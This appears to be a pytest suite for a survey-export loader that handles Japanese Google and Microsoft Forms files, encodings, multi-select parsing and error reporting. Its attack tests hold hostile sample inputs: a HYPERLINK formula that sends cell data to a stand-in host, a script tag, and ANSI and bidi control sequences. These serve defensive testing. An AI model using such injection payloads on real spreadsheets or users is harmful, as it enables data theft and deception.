"""Loading survey exports: encodings, workbooks, headers, multi-select parsing, every problem
reported with row and column, strict/lenient modes, and attacks on the loader."""

import hashlib

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cntf_workbench.survey.codebook import SurveyError, load_codebook
from cntf_workbench.survey.generate import generate_export, inject_problems, write_export
from cntf_workbench.survey.io import (
    PROBLEM_COLUMNS,
    SurveyProblemsError,
    load_responses,
    read_raw,
)


@pytest.fixture(scope="module")
def book():
    return load_codebook()


@pytest.fixture(scope="module")
def export(book):
    return generate_export(40, seed=7, codebook=book)


@pytest.fixture(scope="module")
def reference(export, book, tmp_path_factory):
    path = tmp_path_factory.mktemp("ref") / "ref.csv"
    write_export(export, path)
    return load_responses(path, book)


def _digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- the interface C2 relies on ------------------------------------------------------------------


def test_interface_columns_and_types(reference, book):
    r = reference.responses
    assert list(r.columns) == ["respondent_id", *book.ids]
    assert r["respondent_id"].tolist() == [str(i) for i in range(1, 41)]
    for qid in ("employees", "industry", "chain_position", "pain_text", "expect_text"):
        assert qid in r.columns
    assert str(r["need_linkage"].dtype) == "Int64"
    assert r["need_linkage"].between(1, 5).all()
    assert r["n_groups"].dtype == float
    assert all(isinstance(v, tuple) for v in r["initiatives"])
    assert all(isinstance(v, str) for v in r["pain_text"])
    assert all(isinstance(v, str) for v in r["chain_position"])
    assert list(reference.problems.columns) == PROBLEM_COLUMNS
    assert reference.ok and reference.n_rows == 40


def test_skipped_question_blank_is_not_a_problem(reference):
    r = reference.responses
    skipped = r[r["calc_status"].isin(["planning", "none"])]
    assert len(skipped) > 0
    assert all(v == () for v in skipped["calc_granularity"])


# --- encodings and formats -----------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932", "utf-16"])
def test_encodings_give_the_same_table(export, book, reference, tmp_path, encoding):
    path = tmp_path / f"export_{encoding}.csv"
    export.to_csv(path, index=False, encoding=encoding)
    data = load_responses(path, book)
    assert data.ok
    pd.testing.assert_frame_equal(data.responses, reference.responses)


def test_crlf_line_ends(export, book, reference, tmp_path):
    path = tmp_path / "crlf.csv"
    export.to_csv(path, index=False, lineterminator="\r\n")
    pd.testing.assert_frame_equal(load_responses(path, book).responses, reference.responses)


def test_google_forms_xlsx(export, book, reference, tmp_path):
    path = tmp_path / "google.xlsx"
    write_export(export, path)
    data = load_responses(path, book)
    assert data.encoding == "xlsx" and data.ok
    pd.testing.assert_frame_equal(data.responses, reference.responses)


def test_microsoft_forms_xlsx(export, book, reference, tmp_path):
    ms = export.drop(columns=["タイムスタンプ"]).copy()
    for q in book.by_type("multi"):
        ms[q.text] = [_ms_join(v, q) for v in ms[q.text]]
    ms.insert(0, "ID", [str(i) for i in range(101, 141)])
    ms.insert(1, "開始時刻", "2026/10/02 9:00:00")
    ms.insert(2, "完了時刻", "2026/10/02 9:10:00")
    ms.insert(3, "メール", "anonymous")
    ms.insert(4, "名前", "")
    ms["need_linkage_as_number"] = 0  # an extra column of the member's own
    path = tmp_path / "msforms.xlsx"
    ms.to_excel(path, index=False)
    data = load_responses(path, book)
    assert data.responses["respondent_id"].tolist() == [str(i) for i in range(101, 141)]
    assert set(data.problems["kind"]) == {"unknown_column"}
    pd.testing.assert_frame_equal(
        data.responses.drop(columns="respondent_id"),
        reference.responses.drop(columns="respondent_id"),
    )


def _ms_join(cell, q):
    """Microsoft Forms joins ticked options with ';' and ends with ';'."""
    if not cell:
        return ""
    labels = [o.label for o in q.options]
    ticked = [lab for lab in labels if lab in cell]
    return ";".join(ticked) + ";"


def test_headers_by_id_and_by_normalised_text(export, book, reference, tmp_path):
    renamed = export.copy()
    cols = list(renamed.columns)
    cols[1] = book.ids[0]  # employees by id
    cols[2] = "  " + cols[2].replace("。", "。 ") + "\n"  # stray white space
    renamed.columns = cols
    path = tmp_path / "ids.csv"
    renamed.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.ok
    pd.testing.assert_frame_equal(data.responses, reference.responses)


def test_fullwidth_and_halfwidth_variants(book, tmp_path):
    q = book["n_groups"]
    frame = generate_export(3, seed=1, codebook=book)
    frame.loc[0, q.text] = "３"  # full-width digit
    frame.loc[1, book["need_linkage"].text] = "５"
    frame.loc[2, book["need_linkage"].text] = "ややそう思う"  # label instead of digit
    path = tmp_path / "fw.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.ok
    assert data.responses["n_groups"].iloc[0] == 3.0
    assert data.responses["need_linkage"].tolist()[1:] == [5, 4]


# --- multi-select parsing ------------------------------------------------------------------------


def test_option_with_a_comma_parses(book, tmp_path):
    q = book["scope_range"]
    frame = generate_export(2, seed=1, codebook=book)
    frame.loc[0, q.text] = ", ".join(o.label for o in q.options[:2])  # "Scope 1, 2（…）, Scope 3 …"
    frame.loc[1, q.text] = q.options[0].label  # only the option with the comma
    path = tmp_path / "comma.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.ok
    assert data.responses["scope_range"].tolist() == [("s12", "s3_c1"), ("s12",)]


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_subset_round_trips(data):
    book = load_codebook()
    multi = [q for q in book.questions if q.type == "multi"]
    q = data.draw(st.sampled_from(multi))
    codes = data.draw(st.sets(st.sampled_from([o.code for o in q.options]), min_size=1))
    order = data.draw(st.permutations(sorted(codes)))
    labels = {o.code: o.label for o in q.options}
    sep = data.draw(st.sampled_from([", ", ";"]))
    cell = sep.join(labels[c] for c in order) + (";" if sep == ";" else "")
    from cntf_workbench.survey.io import _multi_parser

    parsed, unknown = _multi_parser(q)(cell)
    assert unknown == []
    assert set(parsed) == codes
    assert list(parsed) == [o.code for o in q.options if o.code in codes]


def test_allow_other_codes_free_text_as_other(book, tmp_path):
    q = book["tier_sharing_issues"]
    frame = generate_export(1, seed=2, codebook=book)
    frame.loc[0, q.text] = f"{q.options[0].label}, 取引先の理解が得られない"
    path = tmp_path / "other.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.ok
    assert data.responses["tier_sharing_issues"].iloc[0] == ("confidentiality", "other")


# --- problems, strict and lenient ---------------------------------------------------------------


@pytest.fixture(scope="module")
def messy_file(book, tmp_path_factory):
    messy, expected = inject_problems(generate_export(30, seed=3, codebook=book), book)
    path = tmp_path_factory.mktemp("messy") / "messy.csv"
    write_export(messy, path)
    return path, expected


def test_every_planted_problem_is_found_with_row_and_column(messy_file, book):
    path, expected = messy_file
    data = load_responses(path, book)
    got = data.problems[["row", "question_id", "kind"]].reset_index(drop=True)
    pd.testing.assert_frame_equal(got, expected, check_dtype=False)
    for p in data.problems.itertuples():
        assert p.row >= 1 and p.column and p.message
    lines = data.problem_lines()
    assert all(line.startswith("行 ") and "列「" in line for line in lines)


def test_lenient_keeps_valid_rows(messy_file, book):
    path, expected = messy_file
    data = load_responses(path, book)
    assert len(data.responses) == 31 - len(expected)
    bad = set(expected["row"].astype(str))
    assert not bad & set(data.responses["respondent_id"])
    assert data.meta["valid"].sum() == len(data.responses)


def test_strict_raises_with_row_and_column(messy_file, book):
    path, _ = messy_file
    with pytest.raises(SurveyProblemsError) as info:
        load_responses(path, book, strict=True)
    assert info.value.row == 3
    assert info.value.column == book["employees"].text
    assert "全6件" in str(info.value)
    assert len(info.value.problems) == 6


def test_duplicate_respondent_id(book, tmp_path):
    frame = generate_export(4, seed=5, codebook=book)
    frame.insert(
        1, "メールアドレス", ["a@example.jp", "b@example.jp", "a@example.jp", "c@example.jp"]
    )
    path = tmp_path / "dup.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    dup = data.problems[data.problems["kind"] == "duplicate"]
    assert dup["row"].tolist() == [3] and dup["column"].tolist() == ["メールアドレス"]
    assert "1行目" in dup["message"].iloc[0]


def test_missing_column_is_a_header_problem(book, export, tmp_path):
    path = tmp_path / "missing.csv"
    export.drop(columns=[book["std_need"].text]).to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.problems[["row", "question_id", "kind"]].values.tolist() == [
        [0, "std_need", "missing_column"]
    ]
    assert len(data.responses) == 40
    assert data.responses["std_need"].isna().all()
    assert data.problem_lines()[0].startswith("ヘッダー")


def test_number_out_of_range_and_not_integer(book, tmp_path):
    frame = generate_export(3, seed=1, codebook=book)
    frame.loc[0, book["n_groups"].text] = "-1"
    frame.loc[1, book["n_groups"].text] = "2.5"
    frame.loc[2, book["n_groups"].text] = "1e3"
    path = tmp_path / "num.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.problems["kind"].tolist() == ["out_of_range", "out_of_range", "not_a_number"]
    assert data.responses.empty


# --- the input is never modified -------------------------------------------------------------------


def test_input_file_untouched(messy_file, book):
    path, _ = messy_file
    before = (_digest(path), path.stat().st_mtime_ns)
    load_responses(path, book)
    with pytest.raises(SurveyError):
        load_responses(path, book, strict=True)
    assert (_digest(path), path.stat().st_mtime_ns) == before
    assert sorted(p.name for p in path.parent.iterdir()) == ["messy.csv"]


# --- attacks and odd input -------------------------------------------------------------------------


def test_formula_looking_and_odd_cells_kept_as_text(book, tmp_path):
    frame = generate_export(4, seed=9, codebook=book)
    pain = book["pain_text"].text
    nasty = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+81-3-0000-0000 @担当者 -5",
        'multi\nline "quoted", cell; with\ttab',
        "<script>alert(1)</script>" + "長" * 200_000,
    ]
    frame[pain] = nasty
    path = tmp_path / "odd.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.ok
    assert data.responses["pain_text"].tolist()[:3] == [s.strip() for s in nasty[:3]]
    assert len(data.responses["pain_text"].iloc[3]) == len(nasty[3])


def test_formula_in_xlsx_is_text(book, tmp_path):
    frame = generate_export(2, seed=9, codebook=book)
    frame[book["expect_text"].text] = ["=1+1", "@SUM(A1:A2)"]
    path = tmp_path / "formula.xlsx"
    with pd.ExcelWriter(
        path, engine="xlsxwriter", engine_kwargs={"options": {"strings_to_formulas": False}}
    ) as writer:
        frame.to_excel(writer, index=False)
    data = load_responses(path, book)
    assert data.responses["expect_text"].tolist() == ["=1+1", "@SUM(A1:A2)"]


def test_unknown_option_in_a_huge_cell_is_reported_short(book, tmp_path):
    frame = generate_export(1, seed=1, codebook=book)
    frame.loc[0, book["industry"].text] = "X" * 100_000
    path = tmp_path / "huge.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.problems["kind"].tolist() == ["unknown_option"]
    assert len(data.problems["message"].iloc[0]) < 200


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\x00\x01\x02\x03binary\x00",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00",
        "名前,年齢\n山田,30\n".encode(),
        b"\xff\xfe\xff\xd8\xff",
        b"PK\x03\x04 not really a zip",
        b'"unterminated,quote\n1,2\n',
    ],
    ids=["empty", "binary", "png", "other-table", "garbage", "fake-xlsx", "bad-quote"],
)
def test_not_a_survey_export(book, tmp_path, content):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(SurveyError) as info:
        load_responses(path, book)
    assert str(path) in str(info.value)
    assert "\n" not in str(info.value)


def test_missing_file(book, tmp_path):
    with pytest.raises(SurveyError, match="見つかりません"):
        load_responses(tmp_path / "nope.csv", book)


def test_read_raw_keeps_every_cell_a_string(export, tmp_path):
    path = tmp_path / "raw.csv"
    write_export(export, path)
    raw, encoding = read_raw(path)
    assert encoding == "utf-8"
    assert raw.shape == export.shape
    assert all(isinstance(v, str) for v in raw.to_numpy().ravel())


def test_shipped_sample_is_clean(book):
    from cntf_workbench.resources import data_root

    data = load_responses(data_root("surveys") / "sample_responses.csv", book)
    assert data.ok and len(data.responses) == 120
    assert np.isin(
        data.responses["chain_position"], [o.code for o in book["chain_position"].options]
    ).all()


def test_blank_id_falls_back_to_the_row_number(book, tmp_path):
    frame = generate_export(3, seed=6, codebook=book)
    frame.insert(1, "ID", ["r-1", "", "r-3"])
    path = tmp_path / "ids.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.ok
    assert data.responses["respondent_id"].tolist() == ["r-1", "2", "r-3"]


def test_english_microsoft_forms_meta_columns_are_not_problems(export, book, tmp_path):
    frame = export.drop(columns=["タイムスタンプ"]).head(3).copy()
    for i, name in enumerate(["ID", "Start time", "Completion time", "Email", "Name"]):
        frame.insert(i, name, "x" if name != "ID" else ["1", "2", "3"])
    path = tmp_path / "ms_en.xlsx"
    frame.to_excel(path, index=False)
    data = load_responses(path, book)
    assert data.ok, data.problems


def test_control_characters_do_not_reach_the_message(book, tmp_path):
    frame = generate_export(1, seed=1, codebook=book)
    frame.loc[0, book["industry"].text] = "\x1b[2J\x1b[31m赤\u202eevil\r\n次の行"
    path = tmp_path / "ansi.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    (line,) = data.problem_lines()
    assert "\x1b" not in line and "\u202e" not in line and "\n" not in line and "\r" not in line


def test_a_question_twice_is_a_header_problem(book, tmp_path):
    frame = generate_export(2, seed=1, codebook=book)
    text = book["industry"].text
    frame["copy"] = frame[text]
    frame = frame.rename(columns={"copy": text})  # two columns with the same header
    path = tmp_path / "twice.csv"
    frame.to_csv(path, index=False)
    data = load_responses(path, book)
    assert data.problems[["row", "question_id", "kind"]].values.tolist() == [
        [0, "industry", "duplicate_column"]
    ]
    assert len(data.responses) == 2
